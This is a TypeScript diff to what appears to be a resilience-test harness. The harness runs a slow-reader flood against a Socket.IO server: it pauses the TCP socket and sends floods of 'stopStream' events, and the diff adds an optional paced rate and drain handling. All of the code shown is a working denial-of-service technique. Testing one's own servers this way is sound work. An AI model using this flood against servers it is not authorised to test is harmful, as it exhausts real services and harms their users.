@@ -10,6 +10,7 @@ import WebSocket from 'ws';
 export interface PausedReaderOptions {
   url: string; // http://host:port of the server
   durationMs: number; // how long the attack lasts, from the first join
+  eventsPerSecond?: number; // a steady flood; unset: as fast as the server reads
 }
 
 export type FromPausedReader =
@@ -17,7 +18,8 @@ export type FromPausedReader =
   | { type: 'done'; connections: number; closedByServer: number; sent: number };
 
 const PONG_EVERY = 1_000; // ms; far inside Socket.IO's 20 s pingTimeout
-const BURST = 200; // events written per turn of the loop
+const BURST = 200; // events written per turn of the loop, at full speed
+const PACE_EVERY = 10; // ms between writes of a steady flood
 const MAX_UNSENT = 256 * 1024; // bytes our own socket may hold unsent: flood as fast as the server reads, no faster
 const JOIN_TIMEOUT = 10_000; // ms for the handshake and the join's ack
 const RETRY_AFTER = 100; // ms before connecting again after a refused or failed join
@@ -53,21 +55,30 @@ async function attackOnce(deadline: number): Promise<'server' | 'deadline' | 're
   }
 
   // Stop reading: the kernel's buffers fill, then the server's
-  (ws as unknown as { _socket: NetSocket })._socket.pause();
+  const tcp = (ws as unknown as { _socket: NetSocket })._socket;
+  tcp.pause();
   send({ type: 'attacking' });
   const pong = setInterval(() => ws.send('3'), PONG_EVERY);
   let open = true;
   void closed.then(() => (open = false));
+  const { eventsPerSecond } = options;
+  const started = performance.now();
+  let written = 0;
   const flood = (): void => {
     if (!open || Date.now() >= deadline) return;
-    if (ws.bufferedAmount < MAX_UNSENT) {
-      for (let i = 0; i < BURST; i += 1) ws.send(`42${ackId++}["stopStream"]`);
-      sent += BURST;
-    }
-    setImmediate(flood);
+    if (ws.bufferedAmount >= MAX_UNSENT) return void tcp.once('drain', flood);
+    const due = eventsPerSecond ? Math.floor(((performance.now() - started) / 1000) * eventsPerSecond) - written : BURST;
+    for (let i = 0; i < due; i += 1) ws.send(`42${ackId++}["stopStream"]`);
+    written += due;
+    sent += due;
+    if (eventsPerSecond) setTimeout(flood, PACE_EVERY);
+    else setImmediate(flood);
   };
   flood();
-  const ended = await Promise.race([closed, new Promise<'deadline'>((resolve) => setTimeout(() => resolve('deadline'), deadline - Date.now()))]);
+  let timer: NodeJS.Timeout | undefined;
+  const timeUp = new Promise<'deadline'>((resolve) => (timer = setTimeout(() => resolve('deadline'), deadline - Date.now())));
+  const ended = await Promise.race([closed, timeUp]);
+  clearTimeout(timer);
   clearInterval(pong);
   if (ended === 'deadline') ws.terminate();
   return ended;
